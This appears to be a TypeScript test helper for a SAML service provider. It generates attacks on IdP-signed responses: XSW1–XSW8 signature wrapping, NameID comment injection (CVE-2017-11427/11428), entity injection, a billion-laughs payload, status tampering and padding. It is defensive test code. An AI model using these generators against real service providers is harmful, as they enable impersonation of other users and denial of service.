/**
 * Attacks on SAML responses, applied to a response the test IdP really signed.
 *
 * XML Signature Wrapping after Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be"
 * (USENIX Security 2012) and SAML Raider's XSW1–XSW8: the signed element stays intact (so the
 * signature still verifies) while an evil copy sits where a naive processor reads the identity.
 * XSW1–2 wrap the Response signature (sign the response only); XSW3–8 wrap the Assertion
 * signature (sign the assertion only) — otherwise the other signature would break and the test
 * would pass for the wrong reason.
 */
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { NS } from './saml/xml.js';

export type XswVariant = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';
export const XSW_VARIANTS: readonly XswVariant[] = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'];
/** Which signature each variant wraps, i.e. what the IdP must sign for the attack to make sense. */
export const XSW_TARGET: Record<XswVariant, 'response' | 'assertion'> = {
  XSW1: 'response', XSW2: 'response',
  XSW3: 'assertion', XSW4: 'assertion', XSW5: 'assertion', XSW6: 'assertion', XSW7: 'assertion', XSW8: 'assertion',
};

export const EVIL_NAME_ID = 'admin@example.com';

export const toBase64 = (xml: string) => Buffer.from(xml, 'utf8').toString('base64');
export const fromBase64 = (b64: string) => Buffer.from(b64, 'base64').toString('utf8');

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml') as unknown as Document;
}
const serialize = (doc: Document) => new XMLSerializer().serializeToString(doc as never);

function child(parent: Element, ns: string, localName: string): Element {
  for (let n = parent.firstChild; n; n = n.nextSibling) {
    if (n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === localName) return n as Element;
  }
  throw new Error(`attack: no ${localName} under ${parent.localName}`);
}

function descendants(root: Element, ns: string, localName: string): Element[] {
  return Array.from(root.getElementsByTagNameNS(ns, localName) as unknown as ArrayLike<Element>);
}

/** Make an element say what the attacker wants: NameID and every e-mail-ish value become `evil`. */
export function makeEvil(element: Element, evil = EVIL_NAME_ID): void {
  for (const nameId of descendants(element, NS.assertion, 'NameID')) nameId.textContent = evil;
  for (const attribute of descendants(element, NS.assertion, 'Attribute')) {
    if (!/mail|upn|name$|username/i.test(attribute.getAttribute('Name') ?? '')) continue;
    for (const value of descendants(attribute, NS.assertion, 'AttributeValue')) value.textContent = evil;
  }
}

function withoutSignature(element: Element): Element {
  const clone = element.cloneNode(true) as Element;
  clone.removeChild(child(clone, NS.dsig, 'Signature'));
  return clone;
}

type Wrap = (response: Element, doc: Document) => void;

const WRAPS: Record<XswVariant, Wrap> = {
  // Evil Response on top (new ID); the original signed Response hidden inside its Signature.
  XSW1(response) {
    const original = withoutSignature(response);
    child(response, NS.dsig, 'Signature').appendChild(original);
    response.setAttribute('ID', '_evil_response');
    makeEvil(child(response, NS.assertion, 'Assertion'));
  },
  // Same, with the original Response as a sibling before the (now detached) Signature.
  XSW2(response) {
    const original = withoutSignature(response);
    response.insertBefore(original, child(response, NS.dsig, 'Signature'));
    response.setAttribute('ID', '_evil_response');
    makeEvil(child(response, NS.assertion, 'Assertion'));
  },
  // Evil unsigned Assertion (new ID) before the signed one.
  XSW3(response) {
    const signed = child(response, NS.assertion, 'Assertion');
    const evil = withoutSignature(signed);
    evil.setAttribute('ID', '_evil_assertion');
    makeEvil(evil);
    response.insertBefore(evil, signed);
  },
  // Evil Assertion in place of the signed one, which is moved inside it.
  XSW4(response) {
    const signed = child(response, NS.assertion, 'Assertion');
    const evil = withoutSignature(signed);
    evil.setAttribute('ID', '_evil_assertion');
    makeEvil(evil);
    response.replaceChild(evil, signed);
    evil.appendChild(signed);
  },
  // The in-place Assertion turns evil and keeps the Signature; an unsigned copy of the original
  // (the ID the signature references) is appended to the Response.
  XSW5(response) {
    const assertion = child(response, NS.assertion, 'Assertion');
    response.appendChild(withoutSignature(assertion));
    assertion.setAttribute('ID', '_evil_assertion');
    makeEvil(assertion);
  },
  // As XSW5, the original copy hidden inside the evil Assertion's Signature.
  XSW6(response) {
    const assertion = child(response, NS.assertion, 'Assertion');
    child(assertion, NS.dsig, 'Signature').appendChild(withoutSignature(assertion));
    assertion.setAttribute('ID', '_evil_assertion');
    makeEvil(assertion);
  },
  // The signed Assertion moved into an Extensions element; an evil unsigned one (same ID) in place.
  XSW7(response, doc) {
    const signed = child(response, NS.assertion, 'Assertion');
    const evil = withoutSignature(signed);
    makeEvil(evil);
    const extensions = doc.createElementNS(NS.protocol, 'samlp:Extensions');
    response.replaceChild(evil, signed);
    extensions.appendChild(signed);
    response.insertBefore(extensions, child(response, NS.protocol, 'Status'));
  },
  // The in-place Assertion turns evil and keeps its Signature, inside which an Object holds the
  // original without its signature.
  XSW8(response, doc) {
    const assertion = child(response, NS.assertion, 'Assertion');
    const signature = child(assertion, NS.dsig, 'Signature');
    const object = doc.createElementNS(NS.dsig, 'ds:Object');
    object.appendChild(withoutSignature(assertion));
    signature.appendChild(object);
    assertion.setAttribute('ID', '_evil_assertion');
    makeEvil(assertion);
  },
};

/** Apply one XSW variant to a signed response (XML in, XML out). */
export function applyXsw(xml: string, variant: XswVariant): string {
  const doc = parse(xml);
  WRAPS[variant](doc.documentElement, doc);
  return serialize(doc);
}

/**
 * Comment injection (Duo Labs, 2018, CVE-2017-11427/11428): the IdP signs NameID
 * `admin@example.com<!---->.evil.com` (the attacker registered `admin@example.com.evil.com`);
 * c14n drops the comment, so the signature still verifies, and a processor reading only the first
 * text node sees `admin@example.com`. Use as `transform.assertion` (before signing).
 */
export function injectNameIdComment(assertionXml: string, splitAfter = EVIL_NAME_ID): string {
  // NameID and every AttributeValue that starts with `splitAfter` (the id and e-mail attributes
  // usually carry the same value), so whichever the SP maps the identity from is attacked.
  return assertionXml.replace(/(<saml:(?:NameID|AttributeValue)[^>]*>)([^<]*)(<\/saml:(?:NameID|AttributeValue)>)/g, (_m, open: string, value: string, close: string) =>
    value.startsWith(splitAfter) && value !== splitAfter ? `${open}${splitAfter}<!---->${value.slice(splitAfter.length)}${close}` : `${open}${value}${close}`,
  );
}

/** A DOCTYPE with an internal entity used in the NameID (XXE / entity-expansion class). */
export function addDoctypeEntity(xml: string): string {
  const withEntity = xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&who;');
  return `<?xml version="1.0"?><!DOCTYPE samlp:Response [<!ENTITY who "${EVIL_NAME_ID}">]>${withEntity}`;
}

/** Billion laughs (entity expansion, CWE-776): ten levels of ten, ~10⁹ "lol"s if expanded. */
export function addBillionLaughs(xml: string): string {
  const levels = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  const withEntity = xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&lol9;');
  return `<?xml version="1.0"?><!DOCTYPE samlp:Response [${levels.join('')}]>${withEntity}`;
}

/**
 * Replace the top-level StatusCode of a response whose assertion is validly signed and whose
 * Response is not signed (so the Status is the attacker's to choose — or a real IdP's error page
 * carrying a stale assertion).
 */
export function setStatus(xml: string, status: string): string {
  return xml.replace(/(<samlp:Status><samlp:StatusCode Value=")[^"]*/, `$1urn:oasis:names:tc:SAML:2.0:status:${status}`);
}

/** Pad a response past a size cap with an XML comment (keeps it well-formed and signature-valid). */
export function padResponse(xml: string, totalBytes: number): string {
  const pad = Math.max(0, totalBytes - Buffer.byteLength(xml));
  return xml.replace('</samlp:Response>', `<!--${'x'.repeat(pad)}--></samlp:Response>`);
}
